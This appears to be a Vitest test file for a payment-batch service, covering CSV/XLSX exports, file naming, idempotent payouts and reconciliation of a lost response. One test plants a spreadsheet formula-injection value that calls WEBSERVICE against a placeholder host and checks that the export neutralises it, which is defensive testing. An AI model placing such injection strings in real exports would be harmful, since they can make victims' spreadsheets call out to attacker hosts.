import { randomUUID } from "node:crypto";
import { expect, test } from "vitest";
import { decideBatch } from "#server/batches/decide/decide-batch.ts";
import { createBatch } from "#server/batches/draft/create-batch.ts";
import { exportFaults } from "#server/batches/export-faults.ts";
import { exportResult } from "#server/batches/export-result.ts";
import { listRows } from "#server/batches/list-rows.ts";
import { exportPayments } from "#server/payments/read/export-payments.ts";
import { readEvidence } from "#server/payments/resolve/read-evidence.ts";
import { readReconciliation } from "#server/reconciliation/read-reconciliation.ts";
import { reconcileWallet } from "#server/reconciliation/reconcile-wallet.ts";
import { syncMovements } from "#server/wallets/sync-movements.ts";
import { newBatch, newRow, requestedBatch } from "#tests/support/desk/new-batch.ts";
import { exportLabels } from "#tests/support/files/export-labels.ts";
import { readBook } from "#tests/support/files/read-book.ts";
import { readBytes, readCsv } from "#tests/support/files/read-file.ts";
import { openPaymentDesk, QUICK } from "#tests/support/payment-desk.ts";
import { keepBooks } from "#tests/support/wallet/wallet-books.ts";

const desk = await openPaymentDesk();
const { maker, approver, viewer, system } = desk;

test("a row that was not sent has no time of sending or processing, in the result as in the list's file", async () => {
	const asked = await requestedBatch(maker, newBatch(1));
	await decideBatch(approver, { id: asked.id, version: asked.version, decision: "approve" });
	const id = (await listRows(viewer, { id: asked.id })).items[0]?.paymentId ?? "";
	await desk.send({ id }, { timing: { ...QUICK, permitFreshMs: -1 } });
	expect(await desk.state(id)).toBe("not_sent");
	const files = [
		await exportResult(viewer, { id: asked.id, format: "csv" }, exportLabels),
		await exportPayments(viewer, { kind: "payout", batch: asked.id, format: "csv" }, exportLabels),
	];
	for (const { chunks } of files) {
		const [heads = [], cells = []] = await readCsv(chunks);
		expect(["Sent", "Processed"].map((head) => cells[heads.indexOf(head)])).toEqual(["", ""]);
	}
});

test("the files of a batch are named after it, and a currency that a list names is computed by no formula of it", async () => {
	const hostile = '")+WEBSERVICE("http://x/")+N("';
	const typed = { destination: "2250701020304", currency: "*" };
	const twice = newRow();
	const rows = [newRow({ currency: hostile }), twice, newRow(typed), twice];
	const { id } = await createBatch(maker, { name: "Primes d’été: مايو", rows }, randomUUID());
	const { fileName, chunks } = await exportResult(viewer, { id, format: "xlsx" }, exportLabels);
	expect(fileName).toMatch(/^batch-primes-d-ete-\d{4}-\d\d-\d\d\.xlsx$/);
	const faults = await exportFaults(viewer, { id, format: "csv" }, exportLabels);
	expect(faults.fileName).toMatch(/^batch-faults-primes-d-ete-\d{4}-\d\d-\d\d\.csv$/);
	const [sheet] = await readBook(await readBytes(chunks));
	const formulas = sheet?.rows.flat().flatMap((cell) => cell?.formula ?? []) ?? [];
	expect(formulas.length).toBeGreaterThan(0);
	// A row that is not paid adds no amount and shows no whole number, however it was typed.
	expect([2, 6].map((column) => sheet?.rows[3]?.[column]?.value)).toEqual(["•••••••••0304", ""]);
	expect([2, 4].map((row) => sheet?.rows[row]?.[6]?.value)).toEqual(["-1000", ""]);
	expect(formulas.filter((formula) => !/^SUMIF\([$\w:]+,"XOF",[$\w:]+\)$/.test(formula))).toEqual([]);
});

const SALARIES = 25;
const LOST = 7;

test("of equal salaries each is paid once, and no line of another settles the one whose answer was lost", async () => {
	keepBooks(desk.script, desk.clock);
	const books = desk.script.post;
	const asked = await requestedBatch(maker, newBatch(SALARIES));
	const batch = await decideBatch(approver, { id: asked.id, version: asked.version, decision: "approve" });
	const { items } = await listRows(viewer, { id: batch.id, limit: 500 });
	const lost = items[LOST];
	if (!lost?.paymentId) throw new Error("a row without a payment");
	desk.script.post = (respond, body, request) =>
		body.destination === lost.destination ? respond.reset() : books(respond, body, request);
	for (const { paymentId } of [...items, ...items]) {
		await desk.send({ id: paymentId ?? "" });
		desk.clock.advance(1_000);
	}
	const paid = desk.posts().map(({ body }) => JSON.parse(body).destination);
	expect(paid.toSorted()).toEqual(items.map(({ destination }) => destination).toSorted());
	await syncMovements(system, { currency: "XOF" });
	await reconcileWallet(system, { currency: "XOF" });
	const after = await listRows(viewer, { id: batch.id, limit: 500 });
	expect(after.items.filter(({ state }) => state !== "succeeded").map(({ n, state }) => [n, state])).toEqual([
		[lost.n, "unknown"],
	]);
	const { movements } = await readEvidence(viewer, { kind: "payout", id: lost.paymentId });
	expect([movements.verdict, movements.count, movements.near.count]).toEqual(["none", 0, 0]);
	const { exceptions } = await readReconciliation(viewer, { currency: "XOF" });
	const named = exceptions.flatMap(({ payments, mayBe }) => [...payments, ...mayBe].map(({ id }) => id));
	expect(named.filter((id) => id !== lost.paymentId)).toEqual([]);
	expect(exceptions.flatMap(({ lines }) => lines)).toEqual([]);
});
